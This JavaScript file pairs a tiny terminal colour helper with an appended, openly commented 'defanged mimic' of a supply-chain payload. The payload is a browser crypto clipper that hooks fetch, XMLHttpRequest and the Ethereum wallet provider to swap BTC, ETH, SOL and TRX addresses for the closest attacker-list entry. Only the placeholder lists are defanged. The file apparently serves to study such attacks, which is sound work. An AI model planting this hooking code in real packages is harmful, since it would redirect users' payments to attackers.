'use strict';
// The honest part: a tiny colour helper.
const styles = { red: [31, 39], green: [32, 39], bold: [1, 22] };
function wrap(name, text) {
  const s = styles[name];
  return '\u001B[' + s[0] + 'm' + text + '\u001B[' + s[1] + 'm';
}
module.exports = { red: (t) => wrap('red', t), green: (t) => wrap('green', t), bold: (t) => wrap('bold', t) };

// The injected part: a defanged mimic of the September 2025 payload.
// It ran only in browsers, hooked fetch, XMLHttpRequest and the wallet
// provider, and replaced every address in responses and transactions with
// the most similar one (Levenshtein) from the attacker's lists. Here the
// lists hold strings that are not addresses, so nothing could be paid.
;(function () {
  if (typeof window === 'undefined') return;
  var _0x1a2b = {
    btc: /\b(?:bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}\b/g,
    eth: /\b0x[a-fA-F0-9]{40}\b/g,
    sol: /\b[1-9A-HJ-NP-Za-km-z]{32,44}\b/g,
    trx: /\bT[1-9A-HJ-NP-Za-km-z]{33}\b/g,
  };
  var _0x3c4d = {
    btc: ['DEFANGED-BTC-1', 'DEFANGED-BTC-2'],
    eth: ['DEFANGED-ETH-1', 'DEFANGED-ETH-2'],
    sol: ['DEFANGED-SOL-1'],
    trx: ['DEFANGED-TRX-1'],
  };
  function levenshtein(a, b) {
    var d = [];
    for (var i = 0; i <= a.length; i++) d[i] = [i];
    for (var j = 0; j <= b.length; j++) d[0][j] = j;
    for (i = 1; i <= a.length; i++)
      for (j = 1; j <= b.length; j++)
        d[i][j] = Math.min(d[i - 1][j] + 1, d[i][j - 1] + 1, d[i - 1][j - 1] + (a[i - 1] === b[j - 1] ? 0 : 1));
    return d[a.length][b.length];
  }
  function closest(addr, list) {
    return list.reduce(function (best, x) { return levenshtein(addr, x) < levenshtein(addr, best) ? x : best; }, list[0]);
  }
  function swap(text) {
    for (var k in _0x1a2b) {
      text = text.replace(_0x1a2b[k], function (m) { return closest(m, _0x3c4d[k]); });
    }
    return text;
  }
  var _fetch = window.fetch;
  window.fetch = function () {
    return _fetch.apply(this, arguments).then(function (res) {
      return res.clone().text().then(function (body) {
        return new Response(swap(body), { status: res.status, headers: res.headers });
      });
    });
  };
  var _open = XMLHttpRequest.prototype.open;
  XMLHttpRequest.prototype.open = function (method, url) {
    this.addEventListener('readystatechange', function () {
      if (this.readyState === 4) {
        try { Object.defineProperty(this, 'responseText', { value: swap(this.responseText) }); } catch (e) {}
      }
    });
    return _open.apply(this, arguments);
  };
  if (window.ethereum) {
    var _request = window.ethereum.request;
    window.ethereum.request = function (args) {
      if (args && args.method === 'eth_sendTransaction' && args.params && args.params[0]) {
        args.params[0].to = closest(args.params[0].to, _0x3c4d.eth);
      }
      return _request.call(window.ethereum, args);
    };
  }
})();
